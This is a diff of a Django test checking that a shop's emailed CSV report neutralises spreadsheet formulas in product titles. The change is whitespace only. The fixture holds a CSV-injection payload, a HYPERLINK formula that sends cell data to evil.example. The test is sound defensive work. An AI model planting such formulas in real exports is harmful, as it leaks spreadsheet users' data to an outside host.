@@ -129,7 +129,7 @@ def test_the_emailed_report_csv_carries_no_formula_from_a_product_title(
     hostile = make_product('=HYPERLINK("http://evil.example/?"&A1,"Open")', "6.50", stock=30, category=category)
     yesterday = shop_today() - dt.timedelta(days=1)
     record_order("Y1", dt.datetime.combine(yesterday, dt.time(12), tzinfo=shop_tz()), [(hostile, 2, "13.00")],
-          guest="guest@example.com")
+                 guest="guest@example.com")
 
     with django_capture_on_commit_callbacks(execute=True):
         assert send_scheduled_reports.delay("daily").get() == 1
